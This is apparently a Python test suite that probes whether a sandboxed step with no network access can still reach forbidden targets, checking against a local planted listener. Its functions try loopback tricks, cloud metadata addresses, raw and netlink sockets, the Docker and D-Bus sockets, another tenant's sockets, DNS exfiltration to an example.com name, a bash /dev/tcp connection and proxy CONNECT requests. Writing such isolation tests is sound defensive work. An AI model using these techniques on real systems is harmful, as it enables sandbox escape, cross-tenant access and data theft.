"""Attacks by the network, from a step that was granted none. See weft's `attacking`.

The suite listens at every address that is aimed at, on this machine alone: whoever connects is given a planted secret.
"""

from attacking import Aim, Loot, armed, attack, ctypes, reach, run_program, syscall

os = armed("os")

struct = armed("struct")


def addresses(aim: Aim) -> list[str]:
    """Where the suite listens, all of them forbidden ones."""
    return list(aim.addresses or ())


def _family(socket, address: str):  # type: ignore[no-untyped-def]
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def ask(address: str, port: int, text: bytes = b"GET /api/status HTTP/1.0\r\n\r\n") -> bytes:
    """A connection made, and what was said there."""
    socket = reach("socket")
    with socket.socket(_family(socket, address), socket.SOCK_STREAM) as one:
        one.settimeout(2)
        one.connect((address, port))
        one.sendall(text)
        return b"connected " + one.recv(256)


@attack
def handler_s_port(aim: Aim, loot: Loot) -> None:
    """The engine's own API, by every name that this machine has."""
    for address in (*addresses(aim), "127.0.0.1", "::1", "0.0.0.0", "::", "127.9.9.9", "::ffff:127.0.0.1"):
        loot.attempt(f"handler at {address}", ask, address, aim.port)
    for name in ("localhost", "ip6-localhost", "127.1", "2130706433", "0x7f000001", "017700000001"):
        loot.attempt(
            f"handler at {name}",
            lambda name=name: reach("socket").create_connection((name, aim.port), 2) and "connected",
        )


@attack
def private_addresses(aim: Aim, loot: Loot) -> None:
    """Loopback, link-local, metadata, private and shared ranges, the machine's own addresses."""
    for address in addresses(aim):
        loot.attempt(address, ask, address, aim.outside_port)


@attack
def without_blocking(aim: Aim, loot: Loot) -> None:
    """connect() that doesn't wait, then a write; and data that goes along with the SYN."""
    socket = reach("socket")
    for address in addresses(aim)[:3]:

        def later(address: str = address) -> bytes:
            with socket.socket(_family(socket, address), socket.SOCK_STREAM) as one:
                one.setblocking(False)
                one.connect_ex((address, aim.outside_port))
                one.settimeout(1)
                one.sendall(b"x")
                return one.recv(64)

        loot.attempt(f"non-blocking to {address}", later)
        for call in ("sendto", "sendmsg"):

            def fast(address: str = address, call: str = call) -> bytes:
                with socket.socket(_family(socket, address), socket.SOCK_STREAM) as one:
                    one.settimeout(1)
                    if call == "sendto":
                        one.sendto(b"fast", socket.MSG_FASTOPEN, (address, aim.outside_port))
                    else:
                        one.sendmsg([b"fast"], [], socket.MSG_FASTOPEN, (address, aim.outside_port))
                    return one.recv(64)

            loot.attempt(f"fast open by {call} to {address}", fast)


@attack
def connects_anew(aim: Aim, loot: Loot) -> None:
    """AF_UNSPEC lets a socket go and be used again."""
    socket = reach("socket")
    types = ctypes()

    def anew() -> bytes:
        one = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        for option in (20, 21):
            # SO_RCVTIMEO and SO_SNDTIMEO: the raw calls below know nothing of Python's own.
            one.setsockopt(socket.SOL_SOCKET, option, struct.pack("=qq", 1, 0))
        unspecified = types.create_string_buffer(16)
        syscall("connect", one.fileno(), unspecified, 16)
        to = types.create_string_buffer(
            struct.pack("=H", 2) + struct.pack(">H", aim.outside_port) + bytes([127, 0, 0, 1]) + bytes(8)
        )
        syscall("connect", one.fileno(), to, 16)
        return one.recv(64)

    loot.attempt("by AF_UNSPEC", anew)


@attack
def datagrams(aim: Aim, loot: Loot) -> None:
    """UDP, with and without connect(); the suite hears what arrives."""
    socket = reach("socket")
    for address in addresses(aim):
        for connected in (False, True):
            try:
                with socket.socket(_family(socket, address), socket.SOCK_DGRAM) as one:
                    one.settimeout(0.3)
                    if connected:
                        one.connect((address, aim.outside_port))
                        one.send(b"datagram of an attacker")
                    else:
                        one.sendto(b"datagram of an attacker", (address, aim.outside_port))
                    # A vector of messages is another call.
                    one.sendmsg(
                        [b"datagram of an attacker"],
                        [],
                        0,
                        None if connected else (address, aim.outside_port),
                    )
                    loot.attempt(f"answer from {address}", one.recv, 64)
            except Exception:
                continue


@attack
def families(aim: Aim, loot: Loot) -> None:
    """Sockets of every other kind."""
    socket = reach("socket")
    for name, family, kind, protocol in (
        ("raw", 2, 3, 1), ("raw IPv6", 10, 3, 58), ("packet", 17, 3, 0x300), ("packet datagram", 17, 2, 0x300), ("vsock", 40, 1, 0),
        ("alg", 38, 5, 0), ("bluetooth", 31, 3, 1), ("key", 15, 3, 2), ("tipc", 30, 1, 0), ("rds", 21, 5, 0), ("can", 29, 3, 1),
        ("xdp", 44, 3, 0), ("qipcrtr", 42, 2, 0), ("kcm", 41, 2, 0), ("nfc", 39, 5, 0), ("smc", 43, 1, 0), ("x25", 9, 5, 0),
        ("ax25", 3, 2, 0), ("llc", 26, 1, 0), ("ib", 27, 3, 0), ("pppox", 24, 1, 0), ("mctp", 45, 2, 0), ("sctp", 2, 1, 132),
        ("dccp", 2, 6, 33), ("mptcp", 2, 1, 262), ("ping", 2, 2, 1), ("udp lite", 2, 2, 136),
    ):  # fmt: skip
        # MPTCP and ping reach nobody but by the calls that are tried elsewhere; they count where a socket can be had.
        loot.attempt(f"socket {name}", lambda f=family, k=kind, p=protocol: socket.socket(f, k, p).fileno())


@attack
def netlink(aim: Aim, loot: Loot) -> None:
    """What the kernel tells about the network, sockets, processes and keys by netlink."""
    socket = reach("socket")

    def interfaces() -> list[str]:
        return [name for _, name in socket.if_nameindex() if name not in ("lo", "sit0", "tunl0", "ip6tnl0")]

    loot.attempt("interfaces", interfaces)

    def addresses_of_machine() -> bytes:
        with socket.socket(16, 3, 0) as one:
            one.settimeout(1)
            one.sendto(struct.pack("=IHHIIB3x", 20, 22, 0x301, 1, 0, 0), (0, 0))
            answer = one.recv(65536)
            return b"169.254" if socket.inet_aton("169.254.169.254") in answer else b""

    loot.attempt("addresses", addresses_of_machine)
    for name, protocol in (
        ("audit", 9),
        ("connector", 11),
        ("netfilter", 12),
        ("kobject", 15),
        ("selinux", 7),
        ("xfrm", 6),
        ("generic", 16),
    ):

        def subscribe(protocol: int = protocol) -> str:
            with socket.socket(16, 3, protocol) as one:
                one.bind((0, 1))
                return "subscribed"

        if aim.shared_network:
            loot.attempt(f"netlink {name}", subscribe)

    def diagnosis() -> bytes:
        with socket.socket(16, 3, 4) as one:
            one.settimeout(1)
            one.sendto(struct.pack("=IHHII BBBBI 48x", 72, 20, 0x301, 1, 0, 2, 6, 0, 0, 0xFFFFFFFF), (0, 0))
            answer = one.recv(65536)
            return struct.pack(">H", aim.outside_port) in answer and b"listeners listed"

    loot.attempt("sockets of others", diagnosis)


@attack
def listens(aim: Aim, loot: Loot) -> None:
    """A service of its own where others could reach it; the suite tries."""
    socket = reach("socket")
    for address in addresses(aim):

        def bound(address: str = address) -> str:
            with socket.socket(_family(socket, address), socket.SOCK_STREAM) as one:
                one.bind((address, 0))
                one.listen()
                return f"listens at port {one.getsockname()[1]}"

        # In an empty network any address can be bound to, and nobody comes.
        if aim.shared_network and not address.startswith("127.") and address != "::1":
            loot.attempt(address, bound)

    def reachable() -> str:
        with socket.socket() as one:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            one.bind(("0.0.0.0", aim.rendezvous))
            one.listen()
            one.settimeout(1.5)
            other, _ = one.accept()
            other.sendall(b"hello from inside")
            return "was called"

    loot.attempt("called from outside", reachable)


@attack
def local_sockets(aim: Aim, loot: Loot) -> None:
    """AF_UNIX by path, by its detours and by abstract name, of every kind."""
    socket = reach("socket")
    where = {
        "path": aim.unix_path,
        "abstract": "\0" + str(aim.abstract),
        "path of /proc": "/proc/self/root" + str(aim.unix_path),
    }
    for pid in (1, aim.handler, aim.zygote):
        where[f"root of {pid}"] = f"/proc/{pid}/root{aim.unix_path}"
    where["path of the machine's bus"] = "/run/dbus/system_bus_socket"
    where["log"] = "/dev/log"
    where["docker"] = "/var/run/docker.sock"
    for name, address in where.items():

        def talk(address: str = address) -> bytes:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as one:
                one.settimeout(1)
                one.connect(address)
                return b"connected " + one.recv(64)

        loot.attempt(name, talk)
    for name in ("path", "abstract"):

        def datagram(address: str = where[name] + ".dgram") -> str:
            with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as one:
                one.sendto(b"datagram of an attacker", address)
                return "sent"

        loot.attempt(f"datagram to {name}", datagram)


@attack
def victim_s_sockets(aim: Aim, loot: Loot) -> None:
    """What the other organization's run listens on."""
    socket = reach("socket")
    for name, address in {
        "path": f"{aim.victim_scratch}/victim.socket",
        "abstract": f"\0weft-victim-{aim.token}",
    }.items():

        def talk(address: str = address) -> bytes:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as one:
                one.settimeout(1)
                one.connect(address)
                return b"connected " + one.recv(64)

        loot.attempt(f"victim's {name}", talk)
    loot.attempt("victim's port", ask, "127.0.0.1", aim.victim_port or 1)


@attack
def names(aim: Aim, loot: Loot) -> None:
    """Data carried out by questions for names; the suite's own name server hears them."""
    socket = reach("socket")
    # Not `localhost`, which any file of hosts knows; what is there is tried by `handler_s_port`.
    for name in (f"exfiltrated-{aim.token}.example.com", "metadata.google.internal"):
        loot.attempt(
            f"name {name}",
            lambda name=name: [
                found[4][0] for found in socket.getaddrinfo(name, 80) if found[4][0] in addresses(aim)
            ],
        )
    question = (
        struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0)
        + b"\x0bexfiltrated\x07example\x03com\0"
        + struct.pack(">HH", 1, 1)
    )
    for address in ("127.0.0.53", "127.0.0.1", "168.63.129.16", "169.254.169.253"):

        def over_udp(address: str = address) -> bytes:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
                one.settimeout(0.3)
                one.sendto(question, (address, 53))
                return one.recv(512)

        loot.attempt(f"answer of {address}", over_udp)


@attack
def by_programs(aim: Aim, loot: Loot) -> None:
    """curl, bash, a Python of its own."""
    for address in addresses(aim)[:4]:
        where = f"[{address}]" if ":" in address else address
        loot.attempt(
            f"curl {address}",
            run_program,
            "/usr/bin/curl",
            # Without the proxy's own words, which say what it refuses.
            "-sf",
            "-m",
            "1",
            f"http://{where}:{aim.outside_port}/",
        )
    loot.attempt(
        "bash",
        run_program,
        "/bin/bash",
        "-c",
        f"exec 3<>/dev/tcp/127.0.0.1/{aim.outside_port} && head -c 20 <&3",
    )
    code = f"import socket; print(socket.create_connection(('127.0.0.1', {aim.outside_port}), 1).recv(20))"
    loot.attempt("python", run_program, "/usr/bin/python3", "-I", "-c", code)


@attack
def by_proxy(aim: Aim, loot: Loot) -> None:
    """The proxy, where there is one, asked for what is forbidden."""
    proxy = os.environ.get("http_proxy") or os.environ.get("HTTP_PROXY") or os.environ.get("https_proxy")
    if not proxy:
        return
    socket = reach("socket")
    host, _, port = proxy.rpartition("//")[2].rpartition("@")[2].rstrip("/").rpartition(":")
    for address in addresses(aim):
        for request in (
            f"CONNECT {address}:{aim.outside_port} HTTP/1.1\r\n\r\n",
            f"GET http://{address}:{aim.outside_port}/ HTTP/1.1\r\nHost: x\r\n\r\n",
        ):

            def through(request: str = request) -> bytes:
                with socket.create_connection((host, int(port)), 2) as one:
                    one.sendall(request.encode())
                    answer = one.recv(256)
                    return answer if b" 200" in answer.partition(b"\r\n")[0] else b""

            loot.attempt(f"by proxy to {address}", through)
